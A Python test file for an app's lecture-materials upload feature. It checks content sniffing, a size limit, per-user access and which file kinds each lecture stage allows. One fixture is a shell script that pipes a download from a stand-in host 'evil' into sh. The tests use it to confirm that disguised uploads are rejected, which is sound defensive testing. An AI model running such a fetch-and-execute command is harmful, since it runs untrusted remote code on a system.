"""Files of a delivered lecture: sniffed uploads, size limit, who may read them."""

from __future__ import annotations

import io
from pathlib import Path

from sqlalchemy import func, select

from core.extensions import db as _db
from plugins.lecturers.requests.models import LectureRequest, LecturerMaterial
from tests.conftest import log_in

from .conftest import build_request

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
SCRIPT = b"#!/bin/sh\ncurl evil | sh\n"


def _upload(client, request_id, data: bytes, name: str, kind: str = "photo"):
    return client.post(
        f"/lectures/requests/{request_id}/materials",
        data={"material-kind": kind, "material-file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
    )


def _count(app) -> int:
    with app.app_context():
        return _db.session.scalar(select(func.count(LecturerMaterial.id)))


def test_upload_sniffed_and_served_only_to_those_involved(app, client, people, town):
    with app.app_context():
        request_id = build_request(people, town.village_a_id, "delivered").id
    log_in(client, app, people.lecturer_user)
    page = client.get(f"/lectures/requests/{request_id}").get_data(as_text=True)
    assert "material-file" in page
    assert _upload(client, request_id, PNG, "现场.jpg").status_code == 302
    refused = _upload(client, request_id, SCRIPT, "照片.jpg")
    assert refused.status_code == 400 and "不支持这种文件" in refused.get_data(as_text=True)
    with app.app_context():
        app.config["LECTURERS_MAX_UPLOAD_MB"] = 1
    big = _upload(client, request_id, b"%PDF-" + b"0" * (1024 * 1024 + 10), "大.pdf", "press")
    assert big.status_code == 400 and "文件太大" in big.get_data(as_text=True)
    assert _count(app) == 1
    with app.app_context():
        material = _db.session.scalar(select(LecturerMaterial))
        assert material.content_type == "image/png" and material.stored_name.endswith(".png")
        assert (
            material.original_name == "现场.jpg" and material.uploaded_by_id == people.lecturer_user
        )
        stored = Path(app.config["UPLOAD_DIR"]) / "lecturers" / material.stored_name
        assert stored.read_bytes() == PNG
        material_id = material.id
    url = f"/lectures/requests/{request_id}/materials/{material_id}"
    for allowed in (people.lecturer_user, people.coordinator, people.manager):
        log_in(client, app, allowed)
        response = client.get(url)
        assert response.status_code == 200 and response.data == PNG
    for refused_user in (people.other_coordinator, people.other_lecturer_user, people.resident):
        log_in(client, app, refused_user)
        assert client.get(url).status_code in (403, 404)
        assert _upload(client, request_id, PNG, "x.png").status_code in (403, 404)
    assert _count(app) == 1


def test_slides_before_the_lecture_records_only_after_it(app, client, people, town):
    with app.app_context():
        submitted = build_request(people, town.village_a_id, "submitted").id
        scheduled = build_request(people, town.village_a_id, "scheduled").id
        rated = build_request(people, town.village_a_id, "rated").id
    log_in(client, app, people.coordinator)
    assert _upload(client, submitted, PNG, "a.png", "slides").status_code == 409
    photo = _upload(client, scheduled, PNG, "a.png")
    assert photo.status_code == 400 and _count(app) == 0  # a photo before the lecture: no
    page = client.get(f"/lectures/requests/{scheduled}").get_data(as_text=True)
    assert 'value="slides"' in page and 'value="photo"' not in page
    assert _upload(client, scheduled, PNG, "讲义.png", "slides").status_code == 302
    assert _upload(client, rated, PNG, "签到册.png", "signin").status_code == 302
    assert _count(app) == 2


def test_deliver_form_takes_a_file_and_a_bad_one_changes_nothing(app, client, people, town):
    with app.app_context():
        request_id = build_request(people, town.village_a_id, "scheduled").id
    log_in(client, app, people.lecturer_user)
    url = f"/lectures/requests/{request_id}/deliver"
    form = {"deliver-attendance": "30", "deliver-summary": "讲了高血压", "deliver-kind": "signin"}
    bad = client.post(
        url,
        data={**form, "deliver-file": (io.BytesIO(SCRIPT), "签到册.pdf")},
        content_type="multipart/form-data",
    )
    assert bad.status_code == 400 and "不支持这种文件" in bad.get_data(as_text=True)
    with app.app_context():
        assert _db.session.get(LectureRequest, request_id).state == "scheduled"
    good = client.post(
        url,
        data={**form, "deliver-file": (io.BytesIO(b"%PDF-1.7 sign-in"), "签到册.pdf")},
        content_type="multipart/form-data",
    )
    assert good.status_code == 302
    with app.app_context():
        assert _db.session.get(LectureRequest, request_id).state == "delivered"
        [material] = _db.session.scalars(select(LecturerMaterial)).all()
        assert material.kind == "signin" and material.content_type == "application/pdf"
    page = client.get(f"/lectures/requests/{request_id}").get_data(as_text=True)
    assert "签到册.pdf" in page
